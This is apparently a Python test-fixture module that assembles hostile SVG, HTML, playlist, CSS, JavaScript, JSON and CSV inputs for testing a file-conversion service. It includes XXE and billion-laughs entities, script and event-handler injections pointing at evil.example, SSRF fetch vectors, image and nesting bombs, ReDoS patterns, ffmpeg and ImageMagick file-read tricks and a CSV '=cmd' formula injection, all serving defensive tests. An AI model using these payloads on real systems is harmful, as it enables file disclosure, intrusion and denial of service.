"""Texts that want to do harm: drawings and pages that fetch or run, lists of films, sources that nest or never end.

Knows: SVG, HTML, playlists, style sheets, scripts. Must not know: how any of them is read here.
"""

from __future__ import annotations

import base64

from hostile_bytes import png
from hostile_files import Corpus
from hostile_office import LAUGHS

DRAWINGS = Corpus("drawing")
TEXTS = Corpus("text")

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
RECTANGLE = '<rect width="64" height="48" fill="#ffffff"/>'


def svg(body: str = RECTANGLE, attributes: str = 'width="64" height="48"', start: str = "") -> bytes:
    return f'{start}<svg xmlns="http://www.w3.org/2000/svg" {XLINK} {attributes}>{body}</svg>'.encode()


def fetching(url: str) -> bytes:
    """Every way in which a drawing may name a file."""
    return svg(
        f'<style>@import "{url}";@font-face{{font-family:f;src:url({url})}}text{{font-family:f}}'
        f"rect{{fill:url({url}#a)}}</style>"
        f'<rect width="64" height="48" fill="#ffffff"/><image width="64" height="48" href="{url}"/>'
        f'<image width="64" height="48" xlink:href="{url}"/><use href="{url}#a"/>'
        '<text x="5" y="20" style="font-family:f">a</text>'
        f'<filter id="f"><feImage href="{url}"/></filter><rect filter="url(#f)" width="9" height="9"/>'
        f'<rect width="9" height="9" style="fill:url({url}#p);mask:url({url}#m);cursor:url({url})"/>'
        f'<pattern id="p" href="{url}#p"/><linearGradient id="g" href="{url}#g"/><a href="{url}"><text>b</text></a>'
        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}"/></foreignObject>',
        start=f'<?xml-stylesheet href="{url}"?>',
    )


def running() -> bytes:
    return svg(
        "<script>alert('EVIL')</script><script href='https://evil.example/a.js'/>" + RECTANGLE
        + "<rect onload='EVIL()' onclick='EVIL()' width='9' height='9'/><a href='javascript:EVIL()'><text y='9'>x</text></a>"
        "<set attributeName='href' to='javascript:EVIL()'/><animate attributeName='onload' values='EVIL()'/>"
        "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml' onload='EVIL()'/></foreignObject>",
        'width="64" height="48" onload="EVIL()"',
    )  # fmt: skip


def used(levels: int = 12) -> bytes:
    """Groups that each use the one before ten times."""
    groups = "".join(f'<g id="g{number + 1}">{f"""<use href="#g{number}"/>""" * 10}</g>' for number in range(levels))
    return svg(f'<defs><rect id="g0" width="1" height="1"/>{groups}</defs><use href="#g{levels}"/>')


def blurred() -> bytes:
    """A drawing made unsharp two hundred times: each result is kept, so this is about memory as well as time."""
    many = '<feGaussianBlur stdDeviation="200"/>' * 200
    large = 'width="1500" height="1500"'
    return svg(f'<filter id="f">{many}</filter><rect filter="url(#f)" {large}/>', large)


DOCTYPE = '<!DOCTYPE svg [<!ENTITY x SYSTEM "{}">]>'
# fmt: off
add = DRAWINGS.add
add("a.svg", "SVG: an entity of this machine",
    lambda traps: svg("<text>&x;</text>", start=DOCTYPE.format(traps.words.as_uri())), "corrupt|unsupported",
    "png svg resize overlay ocr")
add("a.svg", "SVG: an entity of the web", lambda traps: svg("<text>&x;</text>", start=DOCTYPE.format(traps.url)),
    "corrupt|unsupported", "png svg collage")
add("a.svg", "SVG: an outer declaration of the web", lambda traps: svg(start=f'<!DOCTYPE svg SYSTEM "{traps.url}">'),
    "200|corrupt|unsupported", "png svg")
add("a.svg", "SVG: entities in parameters",
    lambda traps: svg("<text>&x;</text>", start=f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{traps.url}">%p;]>'),
    "corrupt|unsupported", "png svg")
add("a.svg", "SVG: entities without end", svg("<text>&i;</text>", start=LAUGHS.replace("DOCTYPE d", "DOCTYPE svg")),
    "corrupt|unsupported", "png svg animate")
add("a.svg", "SVG: one entity a million times",
    svg("<text>" + "&a;" * 1_000_000 + "</text>", start=f'<!DOCTYPE svg [<!ENTITY a "{"a" * 3_000}">]>'),
    "corrupt|unsupported", "png svg")
add("a.svg", "SVG: XInclude of this machine",
    lambda traps: svg(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{traps.words.as_uri()}" parse="text"/>'),
    "200", "png svg")
add("a.svg", "SVG: everything of the web", lambda traps: fetching(traps.url), "200", "png svg resize overlay")
add("a.svg", "SVG: everything of this machine", lambda traps: fetching(traps.picture.as_uri()), "200", "png svg collage")
add("a.svg", "SVG: everything by a path", lambda traps: fetching(str(traps.picture)), "200", "png svg")
add("a.svg", "SVG: scripts and events", running(), "200", "png svg",
    never=(b"EVIL", b"evil.example", b"onload", b"foreignObject"))
add("a.svg", "SVG: uses of uses of uses", used(), "corrupt|too_large|processing_limit|unsupported",
    "png resize svg=200|corrupt|too_large|processing_limit|unsupported")
add("a.svg", "SVG: a use of itself", svg('<g id="a"><use href="#a"/><use href="#a"/></g>'), "200|corrupt|unsupported",
    "png svg")
add("a.svg", "SVG: a view of 10^9 squared", svg(attributes='width="1000000000" height="1000000000"'), "too_large|200",
    "png resize overlay")
add("a.svg", "SVG: numbers beyond all", svg(attributes='width="1e308" height="1e-308" viewBox="-1e308 0 1e308 1e308"'),
    "too_large|corrupt|unsupported|200", "png svg")
add("a.svg", "SVG: groups 100,000 deep", svg("<g>" * 100_000 + "</g>" * 100_000),
    "corrupt|too_large|unsupported|processing_limit", "png svg")
add("a.svg", "SVG: 200 filters over each other",
    blurred,
    "200|corrupt|too_large|unsupported|processing_limit", "png")
add("a.svg", "SVG: a path of two million points", svg(f'<path d="M0 0{"L9 9 1 50" * 1_000_000}"/>'),
    "200|corrupt|too_large|unsupported|processing_limit", "png")
add("a.svg", "SVG: a picture inside that is a bomb",
    svg(f'<image width="9" height="9" href="data:image/png;base64,{base64.b64encode(png(60_000, 60_000)).decode()}"/>'),
    "too_large", "png svg")
add("a.svg", "SVG: packed", b"\x1f\x8b\x08\0\0\0\0\0\0\3" + bytes(200), "unsupported", "png svg resize preview")
add("a.svg", "SVG: cut at half", svg(RECTANGLE * 50)[:500], "corrupt", "png svg resize ocr")
add("a.svg", "SVG: in an encoding that hides things", b'<?xml version="1.0" encoding="UTF-7"?>' + svg("+ADw-script+AD4-EVIL"),
    "corrupt|unsupported|200", "png svg", never=(b"EVIL",))


# fmt: on


# -------------------------------------------------------------------------------------------------- pages and playlists


def html(body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>t</title></head><body><p>visible</p>{body}</body></html>".encode()


def fetching_page(url: str) -> bytes:
    head = f'<base href="{url}"><link rel=stylesheet href="{url}"><meta http-equiv=refresh content="0;url={url}">'
    body = f'<img src="{url}" width=200 height=200><iframe src="{url}"></iframe><object data="{url}"></object>'
    body += f'<embed src="{url}">'
    body += f'<video src="{url}" poster="{url}"></video><style>@import "{url}";body{{background:url({url})}}</style>'
    body += f'<table background="{url}"><tr><td>x</table><script src="{url}"></script><script>fetch("{url}");EVIL()</script>'
    body += f'<svg><image href="{url}"/></svg><input type=image src="{url}"><link rel=import href="{url}">'
    return html(head + body)


# fmt: off
add = TEXTS.add
add("a.html", "HTML: everything of the web", lambda traps: fetching_page(traps.url), "200", "pdf html txt", never=(b"EVIL",),
    office=True)
add("a.html", "HTML: everything of this machine", lambda traps: fetching_page(traps.picture.as_uri()), "200", "png",
    never=(b"EVIL",), office=True)
add("a.html", "HTML: scripts",
    html("<script>EVIL()</script><p onclick=EVIL()>x</p><a href='javascript:EVIL()'>y</a><svg onload=EVIL()>"), "200",
    "html as_it_is txt", never=(b"EVIL",))
add("a.html", "HTML: elements 100,000 deep", lambda: html("<div>" * 100_000),
    "200|corrupt|too_large|processing_limit|unsupported", "html pdf preview", office=True)
add("a.html", "HTML as a picture", html("x"), "unsupported", "resize overlay ocr faces")
LISTS = {
    "a.m3u8": "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{file}|{url}\n#EXT-X-ENDLIST\n",
    "a.ffconcat": "ffconcat version 1.0\nfile '{file}'\nfile '{url}'\n",
    "a.pls": "[playlist]\nFile1={file}\nFile2={url}\nNumberOfEntries=2\n",
    "a.asx": '<asx version="3.0"><entry><ref href="{file}"/><ref href="{url}"/></entry></asx>',
    "a.sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n{url}\n{file}\n",
    "a.mvg": "push graphic-context\nimage over 0,0 0,0 '{url}'\nimage over 0,0 0,0 'label:@{file}'\npop graphic-context\n",
    "a.txt": "label:@{file}\nmsl:{url}\n",
}
for filename, words in LISTS.items():
    add(filename, f"A list or recipe: {filename}",
        lambda traps, words=words: words.format(file=traps.words, url=traps.url).encode(), "unsupported",
        "resize ocr overlay zip")


# ------------------------------------------------------------------------------------------------------- long and deep

DEEP = 100_000
TEN = 10_000_000
LIMITS = "200|corrupt|too_large|processing_limit|unsupported"
add("a.txt", "Text: one line of 10 MB", lambda: b"a" * TEN, LIMITS, "preview qr")
add("a.txt", "Text: 10 MB of lines", lambda: b"a\n" * (TEN // 2), LIMITS, "txt")
add("a.txt", "Text: marks that stack and turn", ("\u202e" + "a" + "\u0300" * 50_000).encode(), LIMITS, "txt qr")
add("a.txt", "Text: half a character at its end", "é".encode()[:1] * 1 + b"a", LIMITS, "preview txt qr")
add("a.md", "Text that wants to be a script", b"</script><script>alert(1)</script><img src=x onerror=alert(1)>", "200",
    "preview txt slide=200|unsupported")
add("a.css", "CSS: 100,000 brackets", b"a{b:" + b"(" * DEEP, LIMITS, "minify_css")
add("a.css", "CSS: 100,000 nested rules", b"a{" * DEEP + b"}" * DEEP, LIMITS, "minify_css")
add("a.css", "CSS: imports of the web",
    lambda traps: f'@import "{traps.url}";@import url({traps.picture.as_uri()});a{{background:url({traps.url})}}'.encode(),
    "200", "minify_css")
add("a.css", "CSS: a comment that never ends", b"a{}/*" + b"*" * 1_000_000, LIMITS, "minify_css")
add("a.css", "CSS: a string that never ends", b'a{content:"' + b"\\\\" * 500_000, LIMITS, "minify_css")
add("a.js", "JavaScript: 100,000 brackets", b"[" * DEEP, LIMITS, "minify_js")
add("a.js", "JavaScript: 100,000 nested functions", b"(function(){" * DEEP + b"})()" * DEEP, LIMITS, "minify_js")
add("a.js", "JavaScript: a million additions", b"a=" + b"1+" * 1_000_000 + b"1", LIMITS, "minify_js")
add("a.js", "JavaScript: templates in templates", b"`${" * 50_000, LIMITS, "minify_js")
add("a.js", "JavaScript: a name of 5 MB", b"var " + b"a" * (TEN // 2), LIMITS, "minify_js")
add("a.js", "JavaScript: an expression for names that never ends", b"/" + b"(a*)*" * 100_000, LIMITS, "minify_js")
add("a.json", "JSON: 100,000 brackets", b"[" * DEEP, LIMITS, "preview txt qr")
add("a.csv", "CSV: formulas", lambda traps: f'=WEBSERVICE("{traps.url}"),=cmd|\'/C EVIL\'!A0\n'.encode(), "200", "preview txt")
